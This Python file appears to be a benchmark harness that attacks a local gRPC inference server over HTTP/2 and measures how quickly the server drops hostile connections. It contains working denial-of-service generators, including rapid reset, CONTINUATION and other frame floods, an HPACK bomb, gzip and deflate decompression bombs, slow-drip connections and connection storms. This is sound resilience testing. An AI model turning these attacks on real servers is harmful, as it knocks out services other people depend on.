"""One attack on a server, in a process of its own: python attackers.py NAME --port PORT

Frames are written by hand and made before the clock starts, so that even this process can send
them as fast as the server takes them. Prints one JSON object: connections made, how many the server
closed and how long after the attack on them began, and the CPU that this process used.
"""

from __future__ import annotations

import argparse
import errno
import itertools
import json
import os
import resource
import select
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass

import identity

__all__ = ["ATTACKS", "Attack"]

LIVE = "/inference.GRPCInferenceService/ServerLive"
INFER = "/inference.GRPCInferenceService/ModelInfer"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = range(5)
PING, WINDOW_UPDATE, CONTINUATION = 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
SENT_AT_ONCE = 64 * 1024


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def integer(value: int, bits: int) -> bytes:
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    value -= most
    out = bytearray([most])
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out + bytes([value]))


def literal(name: str, value: str, first: int = 0) -> bytes:
    return b"".join(
        [
            bytes([first]),
            integer(len(name), 7),
            name.encode(),
            integer(len(value), 7),
            value.encode(),
        ]
    )


def request(path: str, *extra: tuple[str, str]) -> bytes:
    """A header block: POST, http, and what gRPC wants."""
    fields = [(":path", path), (":authority", "bench"), ("te", "trailers")]
    fields += [("content-type", "application/grpc"), *extra]
    return b"\x83\x86" + b"".join(literal(name, value) for name, value in fields)


def message(payload: bytes = b"", flag: int = 0, length: int | None = None) -> bytes:
    return bytes([flag]) + struct.pack(">I", len(payload) if length is None else length) + payload


def data(stream: int, payload: bytes, end: bool = True) -> bytes:
    """DATA frames of 16 KiB at most."""
    pieces = [payload[at : at + 16384] for at in range(0, len(payload), 16384)] or [b""]
    frames = [frame(DATA, 0, stream, piece) for piece in pieces[:-1]]
    return b"".join([*frames, frame(DATA, END_STREAM if end else 0, stream, pieces[-1])])


def settings(*entries: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *entry) for entry in entries))


def odd(count: int) -> Iterator[int]:
    return iter(range(1, 2 * count, 2))


def opened(stream: int, block: bytes, flags: int = END_HEADERS) -> bytes:
    return frame(HEADERS, flags, stream, block)


GREETING = PREFACE + settings() + frame(SETTINGS, 1, 0)
LIVE_BLOCK = request(LIVE)
INFER_BLOCK = request(INFER)
CALL = message()


def live_call(stream: int) -> bytes:
    return opened(stream, LIVE_BLOCK) + data(stream, CALL)


@dataclass(frozen=True)
class Attack:
    """What every connection sends: `greeting`, then `flood()`, then again and again `tail`, or a
    `drip` of one byte a second. A connection that the server closed is replaced by the next as long
    as the attack lasts."""

    what: str
    flood: Callable[[], bytes] = bytes
    tail: Callable[[], bytes] = bytes
    greeting: bytes = GREETING
    drip: bytes = b""
    connections: int = 8
    seconds: float = 5
    reads: bool = False  # takes what the server says
    ends: bool = True  # the server is to end it
    again: bool = True
    storm: bool = False  # all connections leave together, with RST
    tls: bool = False


def _rapid_reset() -> bytes:
    return b"".join(opened(i, LIVE_BLOCK) + frame(RST_STREAM, 0, i, CANCEL) for i in odd(20000))


def _made_you_reset() -> bytes:
    bad = struct.pack(">I", 2**31 - 1)
    return b"".join(opened(i, LIVE_BLOCK) + frame(WINDOW_UPDATE, 0, i, bad) for i in odd(20000))


def _continuation() -> bytes:
    more = frame(CONTINUATION, 0, 1, literal("a", "b"))
    return opened(1, LIVE_BLOCK, flags=0) + more * 20000


def _hpack_bomb() -> bytes:
    large = LIVE_BLOCK + literal("x", "v" * 3000, first=0x40)  # becomes field 62 of the table
    bomb = LIVE_BLOCK + b"\xbe" * 16000
    return opened(1, large) + b"".join(opened(i, bomb) for i in range(3, 400, 2))


def squeezed(mebibytes: int, wbits: int) -> bytes:
    squeeze = zlib.compressobj(9, wbits=wbits)
    zeros = bytes(1 << 20)
    return b"".join(squeeze.compress(zeros) for _ in range(mebibytes)) + squeeze.flush()


def _bombs(encoding: str, mebibytes: int, count: int, size: bytes = b"") -> bytes:
    """Calls that inflate to zeros; with `size` in place of what gzip says about itself."""
    bomb = squeezed(mebibytes, wbits=31 if encoding == "gzip" else 15)
    block = request(INFER, ("grpc-encoding", encoding))
    body = message(bomb[: len(bomb) - len(size)] + size, flag=1)
    return b"".join(opened(i, block) + data(i, body) for i in odd(count))


def _upload() -> bytes:
    """100 messages of 4 MB, all begun and none complete, within the server's windows."""
    start = message(bytes(60000), length=4 << 20)
    return b"".join(opened(i, INFER_BLOCK) + data(i, start, end=False) for i in odd(100))


def _infer_calls() -> bytes:
    body = message(identity.infer_request("identity"))
    return b"".join(opened(i, INFER_BLOCK) + data(i, body) for i in odd(256))


def _echoed_calls() -> bytes:
    """Whose answers are as large as they are: the request's identifier comes back."""
    body = message(identity.infer_request("identity", identifier="i" * 20000))
    return b"".join(opened(i, INFER_BLOCK) + data(i, body) for i in odd(60))


SHUT = PREFACE + settings((4, 0)) + frame(SETTINGS, 1, 0)
CLIENT_HELLO = bytes([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]) + bytes(32)

ATTACKS: dict[str, Attack] = {
    "rapid reset": Attack("calls opened and cancelled", _rapid_reset),
    "made you reset": Attack("frames that make the server reset calls", _made_you_reset),
    "CONTINUATION flood": Attack("a header list that does not end", _continuation),
    "SETTINGS flood": Attack("", tail=lambda: settings((4, 65535)) * 3000),
    "PING flood": Attack("", tail=lambda: frame(PING, 0, 0, b"pingping") * 3000),
    "PRIORITY flood": Attack("", tail=lambda: frame(PRIORITY, 0, 1, b"\0\0\0\0\1") * 3000),
    "WINDOW_UPDATE flood": Attack(
        "", tail=lambda: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 3000
    ),
    "empty DATA flood": Attack("", lambda: opened(1, LIVE_BLOCK), lambda: frame(DATA, 0, 1) * 3000),
    "HPACK bomb": Attack("a 3 KB field of the table, 16,000 times a list", _hpack_bomb),
    "gzip bomb": Attack(
        "1 MB that inflates to 1 GiB; fails as a call, and again",
        lambda: _bombs("gzip", 1024, 16),
        reads=True,
    ),
    "gzip bomb that lies": Attack(
        "says 32 MiB and inflates to 1 GiB",
        lambda: _bombs("gzip", 1024, 16, size=struct.pack("<I", 31 << 20)),
        reads=True,
        seconds=12,
    ),
    "deflate bomb": Attack(
        "as the gzip bomb, and does not say what it is",
        lambda: _bombs("deflate", 1024, 16),
        reads=True,
        seconds=12,
    ),
    "small gzip bombs": Attack(
        "16 KB that inflate to 16 MiB, which is allowed, of nonsense",
        lambda: _bombs("gzip", 16, 200),
        reads=True,
        seconds=12,
    ),
    "slow headers": Attack(
        "a byte a second",
        lambda: opened(1, LIVE_BLOCK, flags=0),
        drip=frame(CONTINUATION, 0, 1, b"x" * 100),
        connections=900,
        seconds=7,
    ),
    "slow body": Attack(
        "a byte a second",
        lambda: opened(1, INFER_BLOCK) + frame(DATA, 0, 1, message(length=1000)),
        drip=frame(DATA, 0, 1, b"x") * 10,
        connections=900,
        seconds=7,
    ),
    "slow preface": Attack(
        "a byte a second", greeting=b"", drip=PREFACE, connections=900, seconds=7
    ),
    "slow TLS handshake": Attack(
        "a byte a second",
        greeting=CLIENT_HELLO,
        drip=bytes(100),
        connections=900,
        seconds=7,
        tls=True,
    ),
    "zero windows": Attack(
        "100 calls a connection whose answers may not leave",
        lambda: b"".join(live_call(i) for i in odd(100)),
        greeting=SHUT,
        connections=100,
        seconds=7,
        again=False,
        reads=True,
    ),
    "unread answers": Attack(
        "256 calls a connection, one byte of window each",
        _infer_calls,
        greeting=PREFACE + settings((4, 1)) + frame(SETTINGS, 1, 0),
        connections=20,
        ends=False,
    ),
    "large unread answers": Attack(
        "60 calls a connection with answers of 20 KB, one byte of window each",
        _echoed_calls,
        greeting=PREFACE + settings((4, 1)) + frame(SETTINGS, 1, 0),
        connections=20,
        seconds=7,
        again=False,
    ),
    "unfinished uploads": Attack(
        "100 messages of 4 MB in parts", _upload, connections=4, seconds=7, reads=True, again=False
    ),
    "10,000 idle connections": Attack(
        "a preface, then nothing", connections=10000, ends=False, again=False, seconds=8
    ),
    "12,000-call storm": Attack(
        "120 connections with 100 calls each leave together, again and again",
        lambda: b"".join(live_call(i) for i in odd(100)),
        connections=120,
        ends=False,
        storm=True,
    ),
}


class Attacker:
    """One connection."""

    def __init__(self, attack: Attack, number: int, port: int, flood: bytes, tail: bytes) -> None:
        self.attack = attack
        self.tail = tail
        self.output = memoryview(attack.greeting + flood)
        self.sent = 0
        self.began = 0.0  # the first byte after the greeting
        self.dripped = 0
        self.drip_at = 0.0
        self.socket = socket.socket()
        self.socket.setblocking(False)
        # 900 connections an address: an address may have 1,000, and one is the neighbour's.
        self.socket.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        self.socket.bind((f"127.0.{1 + number // 900}.1", 0))
        code = self.socket.connect_ex(("127.0.0.1", port))
        if code not in (0, errno.EINPROGRESS):
            raise OSError(code, os.strerror(code))

    @property
    def wants_to_send(self) -> bool:
        return self.sent < len(self.output) or bool(self.tail)

    def send(self, now: float) -> None:
        if self.sent == len(self.output) and self.tail:
            self.output, self.sent = memoryview(self.tail), 0
        if self.sent < len(self.output):
            self.sent += self.socket.send(self.output[self.sent : self.sent + SENT_AT_ONCE])
        if self.began == 0:
            self.began = self.drip_at = now

    def drip(self, now: float) -> None:
        if now < self.drip_at + 1 or self.dripped == len(self.attack.drip):
            return
        self.drip_at = now
        self.socket.send(self.attack.drip[self.dripped : self.dripped + 1])
        self.dripped += 1


class Crowd:
    """All connections of an attack."""

    def __init__(self, attack: Attack, port: int) -> None:
        self.attack = attack
        self.port = port
        self.flood, self.tail = attack.flood(), attack.tail()
        self.epoll = select.epoll()
        self.open: dict[int, Attacker] = {}
        self.numbers = itertools.count()
        self.made = 0
        self.ended: list[float] = []  # seconds

    def connect(self) -> None:
        number = next(self.numbers) % self.attack.connections
        try:
            attacker = Attacker(self.attack, number, self.port, self.flood, self.tail)
        except OSError as error:  # no ports left: that is this machine's limit, not the server's
            if error.errno not in (errno.EADDRNOTAVAIL, errno.EMFILE):
                raise
            return
        self.made += 1
        self.open[attacker.socket.fileno()] = attacker
        self.epoll.register(attacker.socket, self._events(attacker))

    def _events(self, attacker: Attacker) -> int:
        events = select.EPOLLRDHUP | (select.EPOLLIN if self.attack.reads else 0)
        return events | (select.EPOLLOUT if attacker.wants_to_send or not attacker.began else 0)

    def _close(self, descriptor: int, now: float) -> None:
        attacker = self.open.pop(descriptor)
        self.epoll.unregister(descriptor)
        attacker.socket.close()
        self.ended.append(now - attacker.began if attacker.began else 0.0)

    def turn(self, now: float) -> None:
        gone = select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR
        for descriptor, events in self.epoll.poll(0.02, 512):
            attacker = self.open[descriptor]
            try:
                if events & gone:
                    self._close(descriptor, time.monotonic())
                    continue
                if events & select.EPOLLIN:
                    attacker.socket.recv(65536)
                if events & select.EPOLLOUT:
                    attacker.send(now)
                    self.epoll.modify(descriptor, self._events(attacker))
            except BlockingIOError:
                pass
            except OSError:
                self._close(descriptor, time.monotonic())
        if self.attack.drip:
            for descriptor, attacker in list(self.open.items()):
                if attacker.began:
                    try:
                        attacker.drip(now)
                    except OSError:
                        self._close(descriptor, time.monotonic())

    def leave(self) -> None:
        """All at once, with RST."""
        for attacker in self.open.values():
            with suppress(OSError):
                linger = struct.pack("ii", 1, 0)
                attacker.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
            attacker.socket.close()
        self.open.clear()
        self.epoll.close()
        self.epoll = select.epoll()


def wait_to_begin() -> None:
    """Says that everything is made, and waits for a line."""
    print("ready", flush=True)
    sys.stdin.readline()


def run(attack: Attack, port: int) -> dict[str, object]:
    crowd = Crowd(attack, port)  # makes the flood, which may take seconds
    wait_to_begin()
    began = time.monotonic()
    busy = time.process_time()
    end = began + attack.seconds
    storms = 0
    now = began
    while now < end:
        # Slow ones are looked at once; floods come back.
        again = attack.again and not attack.drip
        missing = attack.connections - (len(crowd.open) if again else crowd.made)
        for _ in range(min(missing, 200)):
            crowd.connect()
        if not crowd.open and missing <= 0:
            break
        crowd.turn(now)
        if attack.storm and missing <= 0 and not any(a.wants_to_send for a in crowd.open.values()):
            crowd.leave()
            storms += 1
        now = time.monotonic()
    used = time.process_time() - busy
    ended = sorted(crowd.ended)
    result = {
        "seconds": round(now - began, 3),
        "connections": crowd.made,
        "closed_by_server": len(ended),
        "open_at_end": len(crowd.open),
        "closed_after_s": {
            "median": round(ended[len(ended) // 2], 4) if ended else None,
            "max": round(ended[-1], 4) if ended else None,
        },
        "storms": storms,
        "cores": round(used / max(now - began, 1e-9), 3),
    }
    crowd.leave()
    return result


def spin(share: float, seconds: float) -> dict[str, object]:
    """The control: as much of a core, and not a byte to the server."""
    wait_to_begin()
    end = time.monotonic() + seconds
    began = time.monotonic()
    busy = time.process_time()
    while (now := time.monotonic()) < end:
        while time.monotonic() < now + 0.005 * share:
            pass
        if share < 1:
            time.sleep(0.005 * (1 - share))
    return {"cores": round((time.process_time() - busy) / (time.monotonic() - began), 3)}


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=[*ATTACKS, "spin"])
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--share", type=float, default=1.0, help="spin: of a core")
    parser.add_argument("--seconds", type=float, default=5.0, help="spin: how long")
    options = parser.parse_args()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if options.name == "spin":
        result = spin(options.share, options.seconds)
    else:
        result = run(ATTACKS[options.name], options.port)
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(main())
